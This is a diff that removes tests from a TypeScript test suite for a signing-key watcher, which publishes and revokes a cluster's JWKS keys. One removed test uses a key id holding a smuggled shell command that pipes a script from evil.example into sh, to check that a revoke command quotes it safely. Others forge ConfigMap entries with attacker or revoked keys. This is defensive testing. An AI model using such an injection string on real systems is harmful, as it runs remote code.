@@ -1,7 +1,6 @@
 import assert from 'node:assert/strict'
 import { suite, test } from 'node:test'
 import { generateSigningKey } from '../../../sandbox/kubernetes/tokens/signing-keys.ts'
-import { digestOf } from '../../../src/issuer/memory/key-memory.ts'
 import { asObject } from '../../../src/outside/json-fields.ts'
 import { startTestWatch, type TestWatch } from './test-watch.ts'
 
@@ -230,22 +229,6 @@ suite('what somebody should know', () => {
     assert.equal(watch.published()?.includes(kid), false)
   })
 
-  test('a public key whose name is a command is one word in the command that revokes it', async (t) => {
-    const watch = await startTestWatch(t)
-    await watch.look()
-    const { publicKey } = await generateSigningKey()
-    const kid = "x; curl evil.example|sh; '$(id)'\n"
-    const object = watch.sandbox.google.store.find('example-cluster', 'openid/v1/jwks')
-    const { keys }: { keys: object[] } = JSON.parse(object?.bytes.toString() ?? '')
-    watch.sandbox.google.store.put('example-cluster', 'openid/v1/jwks', {
-      contentType: 'application/jwk-set+json',
-      body: JSON.stringify({ keys: [...keys, { ...publicKey.export({ format: 'jwk' }), kid, alg: 'RS256' }] }),
-    })
-    await watch.look(25)
-    const line = watch.logged.find((one) => one.includes('StrangeKey')) ?? ''
-    assert.ok(line.includes(`revoke --to TARGET -- 'x; curl evil.example|sh; '\\''$(id)'\\''\n', and see`), line)
-  })
-
   test('tokens that carry another issuer than the one that is public', async (t) => {
     const watch = await startTestWatch(t, { issuerUrl: 'https://oidc.example.com/cluster-1' })
     const state = await watch.look()
@@ -283,49 +266,5 @@ suite('two watchers of one cluster', () => {
     await one.look()
     assert.deepEqual(one.published(), sorted(old, next))
     assert.equal(Object.keys(one.remembered()).length, 2)
-  })
-})
-
-suite('whoever may write the ConfigMap', () => {
-  const forge = (watch: TestWatch, entries: Record<string, string>) => {
-    const memory = watch.sandbox.cluster.store.read('ConfigMap', 'pullpass-system', 'pullpass-issuer')
-    if (memory) watch.sandbox.cluster.store.remove(memory)
-    const metadata = { namespace: 'pullpass-system', name: 'pullpass-issuer' }
-    watch.sandbox.cluster.seed({ apiVersion: 'v1', kind: 'ConfigMap', metadata, data: entries })
-  }
-  const entryOf = ({ publicKey, kid }: Awaited<ReturnType<typeof generateSigningKey>>) => {
-    const key = { ...publicKey.export({ format: 'jwk' }), kid, use: 'sig', alg: 'RS256' }
-    return { [`key.${digestOf(kid)}`]: JSON.stringify({ key, lastSeenAt: '2999-01-01T00:00:00Z' }) }
-  }
-
-  test('has no key of his own published, before the first look or after it', async (t) => {
-    const watch = await startTestWatch(t)
-    const attacker = await generateSigningKey()
-    forge(watch, entryOf(attacker))
-    const state = await watch.look()
-    const own = sorted(watch.sandbox.cluster.keys.current)
-    assert.deepEqual(watch.published(), own)
-    assert.deepEqual(reasons(state), ['KeyUnvouched'])
-    assert.match(state.status.alarms[0]?.says ?? '', new RegExp(`^key "${attacker.kid}" is remembered, but neither`))
-    forge(watch, { ...watch.remembered(), ...entryOf(await generateSigningKey()) })
-    await watch.look(25)
-    assert.deepEqual(watch.published(), own)
-  })
-
-  test('brings no revoked key back that is served no more', async (t) => {
-    const watch = await startTestWatch(t)
-    const { keys } = watch.sandbox.cluster
-    const leaked = keys.current
-    await watch.look()
-    keys.signWith(await keys.add())
-    keys.drop(leaked.kid)
-    await watch.look()
-    forge(watch, { ...watch.remembered(), [`revoked.${digestOf(leaked.kid)}`]: '{}' })
-    await watch.look()
-    assert.deepEqual(watch.published(), sorted(keys.current))
-    const unrevoked = Object.entries(watch.remembered()).filter(([name]) => !name.startsWith('revoked.'))
-    forge(watch, { ...Object.fromEntries(unrevoked), ...entryOf(leaked) })
-    await watch.look(25)
-    assert.deepEqual(watch.published(), sorted(keys.current))
   })
 })
